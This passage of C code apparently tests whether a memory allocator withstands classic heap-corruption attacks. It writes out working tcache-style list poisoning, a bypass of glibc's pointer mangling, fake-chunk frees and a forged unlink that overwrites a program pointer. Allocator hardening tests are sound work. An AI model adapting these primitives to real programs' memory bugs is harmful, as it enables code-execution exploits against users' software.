// ---- What the allocator keeps in and beside blocks, overwritten ----

// The program writes the attacker's address into a freed block, where allocators keep their lists. malloc gives it out.
static void poisoned_list(void) {
    size_t size = whole(SMALL);
    if (take_many(64, size) < 64) nothing("malloc gives no memory");
    for (int i = 0; i < 32; i++) drop(blocks[i]);
    for (int i = 0; i < 32; i++) *(word *)hide(blocks[i]) = (word)&own[8];
    hide(NULL);
    got_if_from((char *)own, sizeof own, size, ALL, "a block at an address of the attacker's own");
    nothing("malloc did not give the forged address");
}

// The same by an attacker who could read the freed blocks before, and so knows how the list is written: as plain
// addresses, or mixed with the place where they are (glibc since 2.32).
static void poisoned_list_known(void) {
    size_t size = whole(SMALL);
    if (take_many(64, size) < 64) nothing("malloc gives no memory");
    for (int i = 0; i < 32; i++) drop(blocks[i]);
    int is_plain = 0, is_mixed = 0;
    for (int i = 0; i < 32; i++)
        for (int j = 0; j < 32; j++) {
            word link = *(word *)hide(blocks[i]), address = (word)blocks[j];
            is_plain |= link == address;
            is_mixed |= link == (address ^ (word)blocks[i] >> 12);
        }
    if (!is_plain && !is_mixed) nothing("freed blocks do not tell how the list is written");
    for (int i = 0; i < 32; i++)
        *(word *)hide(blocks[i]) = (word)&own[8] ^ (is_plain ? 0 : (word)blocks[i] >> 12);
    hide(NULL);
    got_if_from((char *)own, sizeof own, size, ALL, "a block at an address of the attacker's own");
    nothing("malloc did not give the forged address");
}

// An overflow into a neighbour that is free, and so in a list.
static void freed_neighbour(void) {
    struct row row = neighbours(SMALL, MANY, NEW);
    char header[PAGE];
    for (size_t i = 0; i < row.gap; i++) header[i] = row.has_header ? row.a[row.size + i] : 'A';
    drop(row.elsewhere);
    if (row.b) drop(row.b);
    for (size_t i = 0; i < row.gap; i++) row.a[row.size + i] = header[i];
    *(word *)hide(row.a + row.size + row.gap) = (word)&own[8];
    hide(NULL);
    got_if_from((char *)own, sizeof own, row.size, ALL, "a block at an address of the attacker's own");
    nothing(row.b ? "malloc did not give the forged address" : ALONE);
}

// The attacker makes the program free an address in memory of their own, and has written there what glibc has before a block.
static void fake_chunk(void) {
    for (size_t i = 1; i < sizeof own / sizeof *own; i += 2) own[i] = 0x51;
    drop(hide(&own[64]));
    got_if_from((char *)own, sizeof own, 0x48, ALL, "a block at an address of the attacker's own");
    got_if_from((char *)own, sizeof own, SMALL, ALL, "a block at an address of the attacker's own");
    nothing("malloc did not give the forged address");
}

// A pointer of the program, in memory where a write through it can be seen.
static struct {
    word before[8];
    char *block;
    word after[8];
} owner;

// An overflow makes the next block believe that the one before it is free, and in a list of the attacker's making. When
// the next block is freed, both become one, and taking the forged one out of its list writes to the program's pointer.
// Where no sizes are between blocks, the same bytes go into the list of a freed neighbour.
static void unlink_forged(void) {
    struct row row = neighbours(MIDDLE, 64, NEW);
    owner.block = row.a;
    word list[2] = {(word)(&owner.block - 3), (word)(&owner.block - 2)};
    char *end = row.a + row.size + row.gap;
    if (row.has_header) {
        word *forged = (word *)row.a, *header = (word *)end - 2;
        forged[0] = 0;
        forged[1] = ((word)header - (word)forged) | 1;
        forged[2] = list[0], forged[3] = list[1];
        forged[4] = forged[5] = 0;
        header[0] = (word)header - (word)forged;
        header[1] &= ~(word)1;
        hide(forged);
    }
    if (!row.has_header) drop(row.elsewhere);
    if (row.b) drop(row.b);
    if (owner.block != row.a) got("the program's pointer changed");
    if (row.has_header) nothing("the pointer is as it was");
    fill(row.a + row.size, 'A', row.gap);
    ((word *)hide(end))[0] = list[0];
    ((word *)hide(end))[1] = list[1];
    hide(end);
    for (size_t i = 0; i < ALL / 8; i++) {
        char *block = get(row.size);
        if (block >= (char *)&owner && block < (char *)(&owner + 1)) got("a block over the program's pointer");
        if (owner.block != row.a) got("the program's pointer changed");
    }
    nothing(row.b ? "the pointer is as it was" : ALONE);
}
